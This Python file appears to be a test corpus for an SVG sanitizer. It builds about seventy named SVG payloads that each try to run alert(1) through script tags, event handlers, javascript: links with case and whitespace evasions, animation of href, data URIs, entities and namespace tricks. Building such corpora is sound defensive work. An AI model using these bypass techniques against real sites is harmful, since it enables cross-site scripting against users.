"""SVG files that try to run a script when they are opened or clicked, each named by the way it takes."""

RUN = "alert(1)"
JS = f"javascript:{RUN}"
DATA = (
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIGlkPSJ4IiBvbmxvYWQ9ImFsZXJ0KDEpIi8+"
)
FRAME = "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"
XHTML = "http://www.w3.org/1999/xhtml"
XLINK = "http://www.w3.org/1999/xlink"
BOX = '<rect width="100" height="100"/>'


def drawing(inside: str, *, root: str = "", before: str = "") -> bytes:
    return f'{before}<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"{root}>{inside}</svg>'.encode()


def link(inside: str, attributes: str = "") -> bytes:
    """A link over the whole drawing, with what would turn it into a script."""
    return drawing(f'<a id="l"{attributes}>{inside}{BOX}</a>', root=f' xmlns:xlink="{XLINK}"')


ODD = f' xmlns:x-y="{XLINK}" xmlns:a.b="{XLINK}" xmlns:_1="{XLINK}" xmlns:é="{XLINK}"'
PREFIXES = ["xlink", "x-y", "a.b", "_1", "é"]

ATTACKS: dict[str, bytes] = {
    "script": drawing(f"<script>{RUN}</script>"),
    "script of another prefix": drawing(f'<x:script xmlns:x="http://www.w3.org/2000/svg">{RUN}</x:script>'),
    "script with an odd prefix": drawing(
        f'<a.b-c:script xmlns:a.b-c="http://www.w3.org/2000/svg">{RUN}</a.b-c:script>'
    ),
    "script in CDATA": drawing(f"<script><![CDATA[{RUN}]]></script>"),
    "script by address": drawing(f'<script href="data:text/javascript,{RUN}"/>'),
    "script by xlink": drawing(f'<script xmlns:l="{XLINK}" l:href="data:text/javascript,{RUN}"/>'),
    "script of XHTML": drawing(f'<s xmlns="{XHTML}"><script>{RUN}</script></s>'),
    "script of XHTML by prefix": drawing(f'<h:script xmlns:h="{XHTML}">{RUN}</h:script>'),
    "script in metadata": drawing(f"<metadata><script>{RUN}</script></metadata>"),
    "script in a title": drawing(f"<title><script>{RUN}</script></title>"),
    "script in unknown elements": drawing(f"<unknown><g><script>{RUN}</script></g></unknown>"),
    "script after an entity": drawing(
        "&a;", before=f"<!DOCTYPE svg [<!ENTITY a \"<script xmlns='http://www.w3.org/2000/svg'>{RUN}</script>\">]>"
    ),
    "script of HTML in an entity": drawing(
        "&a;", before=f"<!DOCTYPE svg [<!ENTITY a \"<x:script xmlns:x='{XHTML}'>{RUN}</x:script>\">]>"
    ),
    "script by an attribute default": drawing("<g/>", before=f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>'),
    "handler by an entity": drawing('<image href="x" onerror="&a;"/>', before=f'<!DOCTYPE svg [<!ENTITY a "{RUN}">]>'),
    "onload": drawing("", root=f' onload="{RUN}"'),
    "onload on an element": drawing(f'<g onload="{RUN}"/>'),
    "onerror": drawing(f'<image href="nowhere.png" onerror="{RUN}"/>'),
    "onclick": drawing(f'<rect width="100" height="100" onclick="{RUN}"/>'),
    "onfocusin": drawing(f'<a href="#" tabindex="0" onfocusin="{RUN}"><text y="50">x</text></a>', root=' onfocus="1"'),
    "onbegin": drawing(f'<animate attributeName="x" dur="1s" onbegin="{RUN}"/>'),
    "onbegin of set": drawing(f'<set attributeName="x" to="1" onbegin="{RUN}"/>'),
    "foreignObject": drawing(
        f'<foreignObject width="9" height="9"><body xmlns="{XHTML}" onload="{RUN}"><img src="x" onerror="{RUN}"/></body></foreignObject>'
    ),
    "frame": drawing(
        f'<foreignObject width="9" height="9"><iframe xmlns="{XHTML}" srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"/></foreignObject>'
    ),
    "frame by prefix": drawing(f'<h:iframe xmlns:h="{XHTML}" src="{JS}"/>'),
    "object": drawing(f'<h:object xmlns:h="{XHTML}" data="{FRAME}"/>'),
    "embed": drawing(f'<h:embed xmlns:h="{XHTML}" src="{DATA}" type="image/svg+xml"/>'),
    "image of HTML": drawing(f'<h:img xmlns:h="{XHTML}" src="x" onerror="{RUN}"/>'),
    "video": drawing(f'<h:video xmlns:h="{XHTML}" src="x" onerror="{RUN}"/>'),
    "audio": drawing(f'<h:audio xmlns:h="{XHTML}" src="x" onerror="{RUN}" autoplay=""/>'),
    "base": drawing(f'<h:base xmlns:h="{XHTML}" href="{JS}//"/><a href="#x">{BOX}</a>'),
    "refresh": drawing(f'<h:meta xmlns:h="{XHTML}" http-equiv="refresh" content="0;url={FRAME}"/>'),
    "link": link("", f' href="{JS}"'),
    "link in capitals": link("", ' href="JaVaScRiPt:alert(1)"'),
    "link with a newline": link("", ' href="java&#10;script:alert(1)"'),
    "link with a tab": link("", ' href="java&#9;script:alert(1)"'),
    "link after a control character": link("", ' href="&#32;&#9;javascript:alert(1)"'),
    "link by xlink": link("", f' xlink:href="{JS}"'),
    "link to data": link("", f' href="{FRAME}"'),
    **{f"link by {prefix}": drawing(f'<a {prefix}:href="{JS}">{BOX}</a>', root=ODD) for prefix in PREFIXES},
    **{
        f"{name} of {prefix}:href": drawing(f'<a><{name} attributeName="{prefix}:href" {value}/>{BOX}</a>', root=ODD)
        for prefix in PREFIXES
        for name, value in [("set", f'to="{JS}"'), ("animate", f'values="{JS}" dur="9s"')]
    },
    "set of href": link(f'<set attributeName="href" to="{JS}"/>'),
    "animate of href": link(f'<animate attributeName="href" values="{JS};{JS}" dur="9s"/>'),
    "animate from": link(f'<animate attributeName="href" from="{JS}" to="#" dur="99s" begin="0s"/>'),
    "animate with spaces": link(f'<animate attributeName=" href " values="{JS}" dur="9s" fill="freeze"/>'),
    "animate from afar": link("").replace(b"</svg>", f'<set href="#l" attributeName="href" to="{JS}"/></svg>'.encode()),
    "animate of another prefix": drawing(
        f'<a><q:set xmlns:q="http://www.w3.org/2000/svg" attributeName="href" to="{JS}"/>{BOX}</a>'
    ),
    "animate of a handler": drawing(f'<g><set attributeName="onclick" to="{RUN}"/>{BOX}</g>'),
    "use of data": drawing(f'<use href="{DATA}#x"/>'),
    "use by xlink": drawing(f'<use xmlns:l="{XLINK}" l:href="{DATA}#x"/>'),
    "feImage": drawing(
        f'<filter id="f"><feImage href="{DATA}"/></filter><rect filter="url(#f)" width="9" height="9"/>'
    ),
    "image of SVG": drawing(f'<image href="{DATA}" width="9" height="9"/>'),
    "style import": drawing(f"<style>@import '{JS}'; @import url(data:text/css,*{{}});</style>"),
    "style in CDATA": drawing(f"<style><![CDATA[</style><script>{RUN}</script>]]></style>"),
    "style with an address": drawing(f"<style>rect{{fill:url({JS})}}</style>{BOX}"),
    "style with a binding": drawing(f"<style>*{{-moz-binding:url({DATA})}}</style>"),
    "style with an expression": drawing(f'<rect style="width:expression({RUN})"/>'),
    "stylesheet": drawing("", before=f'<?xml-stylesheet href="{JS}"?>'),
    "transformation": drawing("", before='<?xml-stylesheet type="text/xsl" href="data:text/xml,&lt;x/>"?>'),
    "handler element": drawing(
        f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{RUN}</handler>'
    ),
    "listener": drawing(f'<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="{JS}"/>'),
    "discard": drawing(f'<discard onbegin="{RUN}"/>'),
    "annotation of MathML": drawing(
        f'<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" href="{JS}">{BOX}</maction></math>'
    ),
    "no namespace": f"<svg onload='{RUN}'><script>{RUN}</script></svg>".encode(),
    "no namespace inside": drawing(
        f'<script xmlns="">{RUN}</script><g xmlns=""><script xmlns="http://www.w3.org/2000/svg">{RUN}</script></g>'
    ),
    "HTML named svg": f'<svg xmlns="{XHTML}"><script>{RUN}</script></svg>'.encode(),
    "UTF-16": drawing(f"<script>{RUN}</script>").decode().encode("utf-16"),
    "comment": drawing(f"<!-- --><script>{RUN}</script><!-- -->"),
    "nested drawing": drawing(f'<svg onload="{RUN}"><svg><script>{RUN}</script></svg></svg>'),
    "switch": drawing(f"<switch><script>{RUN}</script><g><script>{RUN}</script></g></switch>"),
    "pattern": drawing(f'<defs><pattern id="p"><script>{RUN}</script></pattern></defs>'),
    "text": drawing(f"<text>&lt;script&gt;{RUN}&lt;/script&gt;<tspan><script>{RUN}</script></tspan></text>"),
}
